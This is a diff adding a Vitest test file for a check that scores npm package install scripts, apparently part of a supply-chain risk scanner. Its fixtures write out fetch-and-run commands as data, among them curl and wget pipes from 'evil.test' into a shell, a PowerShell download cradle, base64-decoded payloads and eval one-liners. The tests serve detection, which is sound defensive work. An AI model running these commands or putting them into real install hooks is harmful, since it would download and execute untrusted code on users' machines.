@@ -1,0 +1,132 @@
+import { describe, expect, it } from 'vitest';
+import check from '../../src/checks/install-scripts.js';
+import { evidence, unavailable } from '../support/evidence-builder.js';
+import { checkTable, outcomeOf } from './check-table.js';
+
+const withScripts = (installScripts: Record<string, string>) => evidence({ registry: { installScripts } });
+
+checkTable(check, [
+  { name: 'no scripts', evidence: evidence(), score: 100, messageId: 'none', data: { scripts: [], gyp: false, bindingGyp: false } },
+  {
+    name: 'no scripts, tarball unavailable',
+    evidence: evidence({ tarball: unavailable('timeout') }),
+    score: 100,
+    messageId: 'none',
+    data: { bindingGyp: null },
+  },
+  {
+    name: 'gypfile: true → implicit node-gyp rebuild',
+    evidence: evidence({ registry: { gypfile: true } }),
+    score: 60,
+    messageId: 'native-build',
+    data: { gyp: true, hooks: ['binding.gyp'], commands: ['install: node-gyp rebuild (implicit, binding.gyp)'] },
+  },
+  {
+    name: 'binding.gyp in the tarball',
+    evidence: evidence({ tarball: { bindingGyp: true } }),
+    score: 60,
+    messageId: 'native-build',
+    data: { gyp: true, bindingGyp: true },
+  },
+  {
+    name: 'explicit node-gyp rebuild',
+    evidence: withScripts({ install: 'node-gyp rebuild' }),
+    score: 60,
+    messageId: 'native-build',
+    data: { scripts: ['install'], commands: ['install: node-gyp rebuild'] },
+  },
+  { name: 'node-gyp-build loader', evidence: withScripts({ install: 'node-gyp-build' }), score: 60, messageId: 'native-build' },
+  {
+    name: 'plain postinstall',
+    evidence: withScripts({ postinstall: 'node scripts/postinstall.js' }),
+    score: 30,
+    messageId: 'scripts',
+    data: { scripts: ['postinstall'], commands: ['postinstall: node scripts/postinstall.js'] },
+    message: ['postinstall: node scripts/postinstall.js'],
+  },
+  {
+    name: 'prebuild-install downloads binaries: an ordinary script, not a plain build',
+    evidence: withScripts({ install: 'prebuild-install || node-gyp rebuild' }),
+    score: 30,
+    messageId: 'scripts',
+  },
+  {
+    name: 'script plus binding.gyp keeps the script verdict',
+    evidence: evidence({ registry: { installScripts: { preinstall: 'node check.js' } }, tarball: { bindingGyp: true } }),
+    score: 30,
+    messageId: 'scripts',
+    data: { scripts: ['preinstall'], gyp: true },
+  },
+  {
+    name: 'curl piped into a shell',
+    evidence: withScripts({ preinstall: 'curl -s https://evil.test/x.sh | sh' }),
+    score: 10,
+    messageId: 'suspicious',
+    data: { flags: ['curl', 'url', 'pipe-to-shell'] },
+  },
+  { name: 'wget', evidence: withScripts({ postinstall: 'wget -q -O- evil.test/p' }), score: 10, messageId: 'suspicious', data: { flags: ['wget'] } },
+  {
+    name: 'node -e one-liner',
+    evidence: withScripts({ postinstall: 'node -e "require(\'./x\')"' }),
+    score: 10,
+    messageId: 'suspicious',
+    data: { flags: ['node-eval'] },
+  },
+  {
+    name: 'http module in a one-liner',
+    evidence: withScripts({ install: "node --eval \"require('https').get(u)\"" }),
+    score: 10,
+    messageId: 'suspicious',
+    data: { flags: ['http', 'node-eval'] },
+  },
+  {
+    name: 'base64 decoding',
+    evidence: withScripts({ postinstall: 'echo aGVsbG8= | base64 -d > run.js && node run.js' }),
+    score: 10,
+    messageId: 'suspicious',
+    data: { flags: ['base64'] },
+  },
+  {
+    name: 'powershell download cradle',
+    evidence: withScripts({ postinstall: 'powershell -NoProfile -c "iwr evil.test | iex"' }),
+    score: 10,
+    messageId: 'suspicious',
+  },
+  { name: 'eval', evidence: withScripts({ install: 'node -p "eval(process.env.X)"' }), score: 10, messageId: 'suspicious' },
+  {
+    name: 'prepare is not run for registry installs',
+    evidence: withScripts({ prepare: 'curl evil.test | sh' }),
+    score: 100,
+    messageId: 'none',
+    data: { scripts: [] },
+  },
+  {
+    name: 'empty script text is no script',
+    evidence: withScripts({ postinstall: '   ' }),
+    score: 100,
+    messageId: 'none',
+  },
+]);
+
+describe('install-scripts evidence', () => {
+  it('truncates each command to 200 characters', () => {
+    const long = `node ${'a'.repeat(500)}.js`;
+    const outcome = outcomeOf(check, withScripts({ postinstall: long }));
+    const commands = outcome.data?.commands as string[];
+    expect(commands).toHaveLength(1);
+    expect(commands[0]?.startsWith('postinstall: node aaaa')).toBe(true);
+    expect(Array.from(commands[0] ?? '').length).toBe('postinstall: '.length + 200);
+    expect(commands[0]?.endsWith('…')).toBe(true);
+  });
+
+  it('scans past the evidence cut: a payload after 200 characters is still flagged', () => {
+    const outcome = outcomeOf(check, withScripts({ postinstall: `node ${'x'.repeat(300)} && curl evil.test` }));
+    expect(outcome.score).toBe(10);
+  });
+
+  it('an oversized script is itself flagged', () => {
+    const outcome = outcomeOf(check, withScripts({ postinstall: `echo ${'y'.repeat(5000)}` }));
+    expect(outcome.score).toBe(10);
+    expect(outcome.data?.flags).toEqual(['oversized']);
+  });
+});
